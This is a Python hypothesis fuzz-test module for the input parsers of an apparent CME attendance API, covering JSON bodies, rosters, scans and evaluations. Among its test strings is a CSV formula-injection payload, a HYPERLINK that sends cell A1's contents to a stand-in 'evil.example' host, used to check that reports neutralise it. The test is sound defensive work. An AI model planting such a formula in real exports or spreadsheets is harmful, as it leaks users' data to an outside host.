"""Every parser of client input, fed anything: broken UTF-8, NaN and Infinity, huge numbers, deep nesting,
wrong types, unknown fields, times at the calendar's ends, formula cells. Each answers with a parsed value
or the product's own 4xx error (`cme.errors.ApiError`, or pydantic's ValidationError that the resolver
maps to 422), never another exception; and what it accepts can be stored and read back.

The strategies here (hostile JSON values, valid documents with a few fields broken) also drive the
handler-level properties of tests/integration/test_bad_input.py."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
from collections.abc import Iterator
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from builders import answers, roster_rows, scan, worked_example_activity
from cme.api import MAX_JSON_DEPTH, decode_json, parse
from cme.domain.models import Activity, Attendee, EvaluationSubmission, Scan
from cme.errors import ApiError, BadRequest, PayloadTooLarge, Unprocessable, UnsupportedMediaType
from cme.service.activities import check_storable
from cme.service.evaluation_form import default_questions, validate_answers
from cme.service.reports import safe_cell
from cme.service.roster import MAX_ROWS, parse_roster
from cme.service.scans import _invalid_message, _local_day
from cme.web.forms import form_fields

pytestmark = pytest.mark.unit

#: `CME_FUZZ_EXAMPLES=2000` is a longer run of its own (the handler-level properties read it too).
FUZZ = settings(
    max_examples=int(os.environ.get("CME_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
#: Strings that reached a 5xx once, or that a parser must treat with care.
NASTY_STRINGS = [
    "",
    " ",
    "9E+999999",
    "-9E+999999",
    "1E-999999",
    "1E+999999",
    "NaN",
    "-Infinity",
    "sNaN",
    "1" * 5000,
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2027-10-14T08:00:00",
    "2027-02-30T08:00:00-05:00",
    "2027-10-14T08:00:00-05:00",
    FORMULA,
    "+1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "\ud800",
    "a\x00b",
    "line\r\nbreak",
    "x" * 600,
    "²",
    "٣",
    "Żółć Παπαδοπούλου",
    "Hall-A",
    "S1",
    "B-1001",
    "AMA_PRA_1",
    "yes",
    "physician",
]
KNOWN_KEYS = [
    "activity_id", "scans", "scan_id", "badge_id", "room", "session_id", "scanned_at", "direction", "title",
    "sessions", "credits", "credit_types", "max", "starts_at", "ends_at", "breaks", "faculty", "answers",
    "claims", "attest", "email", "given_name", "family_name", "profession", "board_ids", "policy",
]  # fmt: skip
LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=20),
    st.sampled_from(NASTY_STRINGS),
)
json_values = st.recursive(
    LEAVES,
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.sampled_from(KNOWN_KEYS) | st.text(max_size=8), children, max_size=5)
    ),
    max_leaves=25,
)


def _slots(document: Any) -> Iterator[tuple[Any, Any]]:
    """(container, key) for every value inside a JSON document."""
    if isinstance(document, dict):
        for key in list(document):
            yield document, key
            yield from _slots(document[key])
    elif isinstance(document, list):
        for index in range(len(document)):
            yield document, index
            yield from _slots(document[index])


NUMBERISH = st.sampled_from(
    ["9E+999999", "-9E+999999", "1E-999999", "1E+999999", "NaN", "Infinity", "1.3", "", -1, 0.1, 1e308, 10**40, True]
)
TIMEISH = st.sampled_from(
    [
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "2027-10-14T08:00:00",
        "2027-02-30T08:00:00-05:00",
        "2027-10-14",
        "now",
        0,
        -62135596800000,
        253402300799000,
    ]
)


def _hostile_like(value: Any) -> st.SearchStrategy[Any]:
    """Values that break the checks of a field like this one: numbers for a number, times for a time."""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return NUMBERISH
    if isinstance(value, str) and value[:4].isdigit() and "T" in value:
        return TIMEISH
    return st.sampled_from(NASTY_STRINGS)


@st.composite
def mutated(draw: st.DrawFn, base: Any, changes: int = 3) -> Any:
    """A valid document with one to `changes` values replaced, removed, or added beside them: most of it
    passes the first checks, so the broken part reaches the deeper ones."""
    document = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, changes))):
        slots = list(_slots(document))
        if not slots:
            break
        container, key = draw(st.sampled_from(slots))
        action = draw(st.sampled_from(["replace", "replace", "remove", "add"]))
        if action == "replace":
            container[key] = draw(_hostile_like(container[key]) | json_values)
        elif action == "remove":
            del container[key]
        elif isinstance(container, dict):
            container[draw(st.sampled_from(KNOWN_KEYS) | st.text(max_size=8))] = draw(json_values)
        else:
            container.append(draw(json_values))
    return document


def as_received(value: Any) -> Any:
    """The value as a handler sees it after `json_body`: what strict JSON cannot carry is refused there."""
    try:
        text = json.dumps(value)
    except (ValueError, RecursionError):
        assume(False)
    try:
        return decode_json(text.encode("utf-8", "surrogatepass"))
    except BadRequest:
        assume(False)


def assert_names_fields(error: ApiError) -> None:
    assert 400 <= error.status < 500
    assert error.message
    for detail in error.details:
        assert isinstance(detail.get("field"), str) and detail["field"], detail
        assert isinstance(detail.get("message"), str) and detail["message"], detail


AGENDA = {**worked_example_activity(), "activity_id": "asa-2027"}
SCAN = scan("s1", "B-1001", "Hall-A", "07:50", device_id="door-1")
SUBMISSION = {"session_id": None, "answers": answers(), "claims": {"AMA_PRA_1": {"S1": 1.5}}, "attest": True}


# ---- JSON bodies ------------------------------------------------------------------------------------------


@FUZZ
@given(st.binary(max_size=200) | json_values.map(lambda v: json.dumps(v).encode("utf-8", "surrogatepass")))
def test_a_json_body_is_a_value_or_a_400(data: bytes) -> None:
    try:
        value = decode_json(data)
    except BadRequest as error:
        assert_names_fields(error)
        return
    # What gets through is plain JSON: no NaN or Infinity, nothing an encoder refuses.
    json.dumps(value, allow_nan=False).encode("utf-8")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b'{"max": NaN}', "NaN is not a JSON number"),
        (b"[Infinity]", "Infinity is not a JSON number"),
        (b'{"n": ' + b"1" * 5000 + b"}", "too many digits"),
        (b"[" * 5000 + b"]" * 5000, "nested too deeply"),
        (b"[" * (MAX_JSON_DEPTH + 2) + b"]" * (MAX_JSON_DEPTH + 2), "nested too deeply"),
        (b'{"label": "\\ud800"}', "not valid Unicode"),
        (b'{"\\udfff": 1}', "not valid Unicode"),
        (b'{"name": "Jos\xe9"}', "not valid UTF-8"),
        (b"\xef\xbb\xbf{}", "not valid JSON"),
    ],
    ids=[
        "nan",
        "infinity",
        "huge-number",
        "deep",
        "just-too-deep",
        "lone-surrogate",
        "surrogate-key",
        "latin-1",
        "bom",
    ],
)
def test_what_strict_json_refuses_is_a_400_saying_what(body: bytes, words: str) -> None:
    with pytest.raises(BadRequest) as caught:
        decode_json(body)
    assert words in caught.value.message


def test_the_field_with_broken_text_is_named() -> None:
    with pytest.raises(BadRequest) as caught:
        decode_json(b'{"scans": [{"device_id": "ok"}, {"device_id": "\\ud800"}]}')
    assert caught.value.details == [{"field": "scans.1.device_id", "message": "not valid Unicode"}]


def test_nesting_up_to_the_limit_is_read() -> None:
    depth = MAX_JSON_DEPTH
    assert decode_json(b"[" * depth + b"]" * depth) is not None


# ---- agendas (PUT /activities/{id}) -----------------------------------------------------------------------


def _parse_activity(data: Any) -> Activity | None:
    try:
        return parse(Activity, data)
    except Unprocessable as error:
        assert_names_fields(error)
        assert error.details
        return None


@FUZZ
@given(mutated(AGENDA, changes=4).map(as_received))
def test_an_agenda_is_an_activity_or_a_422_naming_the_field(body: Any) -> None:
    activity = _parse_activity(body)
    if activity is None:
        return
    try:
        check_storable(activity)
    except PayloadTooLarge as error:
        assert_names_fields(error)
        return
    # Stored as JSON and read back by every later request.
    assert Activity.model_validate_json(activity.model_dump_json()) == activity


@FUZZ
@given(json_values.map(as_received))
def test_anything_at_all_as_an_agenda_is_a_422(body: Any) -> None:
    assert _parse_activity(body) is None


@pytest.mark.parametrize(
    ("path", "value", "field"),
    [
        (("credit_types", "AMA_PRA_1", "max"), "9E+999999", "credit_types.AMA_PRA_1.max"),
        (("sessions", 0, "credits", "AMA_PRA_1"), "-9E+999999", "sessions.0.credits.AMA_PRA_1"),
        (("sessions", 0, "starts_at"), "0001-01-01T00:00:00+14:00", "sessions.0.starts_at"),
        (("sessions", 1, "ends_at"), "9999-12-31T23:59:59-14:00", "sessions.1"),
    ],
)
def test_values_beyond_what_a_check_can_compute_are_a_422_naming_them(
    path: tuple[Any, ...], value: str, field: str
) -> None:
    body = copy.deepcopy(AGENDA)
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    with pytest.raises(Unprocessable) as caught:
        parse(Activity, body)
    assert any(d["field"].startswith(field) for d in caught.value.details), caught.value.details


def test_an_agenda_too_large_to_store_is_a_413_naming_its_largest_part() -> None:
    body = copy.deepcopy(AGENDA)
    body["sessions"][0]["faculty"] = [f"F-{n:06d}" for n in range(40_000)]
    with pytest.raises(PayloadTooLarge) as caught:
        check_storable(parse(Activity, body))
    assert caught.value.details[0]["field"] == "sessions"
    assert "KB" in caught.value.message


# ---- rosters (POST /activities/{id}/attendees) ------------------------------------------------------------


def _rows(body: bytes, kind: str) -> list[Any] | None:
    try:
        return parse_roster(body, kind)
    except (BadRequest, PayloadTooLarge, UnsupportedMediaType) as error:
        assert_names_fields(error)
        return None


def _check_rows(rows: list[Any]) -> None:
    """Each row as the upsert validates it: an attendee that stores and reads back, or a ValidationError."""
    for row in rows:
        try:
            attendee = Attendee.model_validate(row)
        except ValidationError:
            continue
        assert Attendee.model_validate_json(attendee.model_dump_json()) == attendee


@FUZZ
@given(
    st.lists(mutated(roster_rows()[0], changes=2) | json_values, max_size=4).map(
        lambda rows: json.dumps(rows).encode("utf-8", "surrogatepass")
    )
    | st.binary(max_size=100)
)
def test_a_json_roster_is_rows_or_a_4xx(body: bytes) -> None:
    rows = _rows(body, "application/json")
    if rows is not None:
        _check_rows(rows)


CSV_CELLS = st.text(max_size=12) | st.sampled_from(NASTY_STRINGS) | st.sampled_from(['"', '""', ",", "\n", "\r"])
CSV_HEADER = ["badge_id", "given_name", "family_name", "email", "profession", "degree", "board_ids", "moc_consent"]


@st.composite
def csv_bodies(draw: st.DrawFn) -> bytes:
    header = draw(st.permutations(CSV_HEADER).map(lambda h: h[: draw(st.integers(0, len(h)))]) | st.just(CSV_HEADER))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for _ in range(draw(st.integers(0, 4))):
        writer.writerow([draw(CSV_CELLS) for _ in range(draw(st.integers(0, len(header) + 2)))])
    text = out.getvalue()
    if draw(st.booleans()):
        text = draw(st.sampled_from(["\ufeff", ""])) + text
    data = text.encode("utf-8", "surrogatepass")
    return data + draw(st.sampled_from([b"", b"\xff\xfe", b'"unclosed', b"\x00"]))


@FUZZ
@given(csv_bodies())
def test_a_csv_roster_is_rows_or_a_4xx(body: bytes) -> None:
    rows = _rows(body, "text/csv")
    if rows is not None:
        _check_rows(rows)


def test_a_csv_cell_over_the_csv_modules_limit_is_a_400() -> None:
    body = b"badge_id,given_name\nB-1," + b"x" * 200_000 + b"\n"
    with pytest.raises(BadRequest) as caught:
        parse_roster(body, "text/csv")
    assert "line" in caught.value.message and "field larger" in caught.value.message


def test_a_csv_longer_than_the_limit_stops_being_read_at_the_limit() -> None:
    body = ("badge_id\n" + "B-1\n" * (MAX_ROWS + 50_000)).encode()
    with pytest.raises(PayloadTooLarge):
        parse_roster(body, "text/csv")


@pytest.mark.parametrize(
    ("column", "value"), [("given_name", FORMULA), ("family_name", "@SUM(A1)"), ("degree", "=1+1")]
)
def test_a_formula_in_a_name_is_kept_as_given_and_neutralised_in_reports(column: str, value: str) -> None:
    [row] = parse_roster(_csv_row(column, value), "text/csv")
    attendee = Attendee.model_validate(row)
    assert getattr(attendee, column) == value
    assert safe_cell(getattr(attendee, column)) == "'" + value


def _csv_row(column: str, value: str) -> bytes:
    row = {"badge_id": "B-1", "given_name": "Grace", "family_name": "Okafor", "email": "b1@example.org"}
    row |= {"profession": "physician", column: value}
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    return out.getvalue().encode()


# ---- scans (POST /scans) ----------------------------------------------------------------------------------


@FUZZ
@given(mutated(SCAN, changes=2).map(as_received) | json_values.map(as_received))
def test_a_scan_is_a_scan_or_a_refusal_that_says_why(raw: Any) -> None:
    try:
        parsed = Scan.model_validate(raw)
    except ValidationError as exc:
        message = _invalid_message(raw, exc if isinstance(raw, dict) else None)
        assert isinstance(message, str) and message
        return
    day = _local_day(parsed.scanned_at, ZoneInfo("America/Chicago"))
    assert day is None or day.year >= 1


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
def test_a_scan_at_the_calendars_ends_has_no_local_day_and_no_error(moment: str) -> None:
    parsed = Scan.model_validate({**SCAN, "scanned_at": moment})
    assert _local_day(parsed.scanned_at, ZoneInfo("Pacific/Kiritimati" if "-14" in moment else "Etc/GMT+12")) is None


# ---- evaluations (POST /evaluations and the /l/evaluation form) -------------------------------------------


def _questions() -> list[Any]:
    activity = Activity.model_validate(AGENDA)
    return default_questions(activity, ["S1", "S2"], {})


@FUZZ
@given(mutated(SUBMISSION, changes=3).map(as_received) | json_values.map(as_received))
def test_an_evaluation_is_checked_answer_by_answer_without_an_exception(body: Any) -> None:
    try:
        submission = parse(EvaluationSubmission, body)
    except Unprocessable as error:
        assert_names_fields(error)
        return
    clean, errors = validate_answers(_questions(), submission.answers)
    for error in errors:
        assert error["field"].startswith("answers.") and error["message"]
    assert set(clean) <= {q.id for q in _questions()} | {f"{q.id}_comment" for q in _questions()}


@FUZZ
@given(st.dictionaries(st.sampled_from([q.id for q in _questions()]), json_values | st.sampled_from(NASTY_STRINGS)))
def test_any_answer_to_any_question_is_an_answer_or_a_field_error(given_answers: dict[str, Any]) -> None:
    clean, errors = validate_answers(_questions(), given_answers)
    assert all(e["field"].startswith("answers.") for e in errors)
    assert not (set(clean) & {e["field"].removeprefix("answers.") for e in errors})


@FUZZ
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda t: t.encode("utf-8", "surrogatepass")))
def test_a_posted_form_is_fields_or_a_413(body: bytes) -> None:
    try:
        fields = form_fields(body)
    except PayloadTooLarge as error:
        assert_names_fields(error)
        return
    assert all(isinstance(k, str) and isinstance(v, str) for k, v in fields.items())


def test_a_rating_of_thousands_of_digits_is_a_field_error() -> None:
    _, errors = validate_answers(_questions(), {**answers(), "objectives_met": "9" * 5000})
    assert {"field": "answers.objectives_met", "message": "choose a number from 1 to 5"} in errors
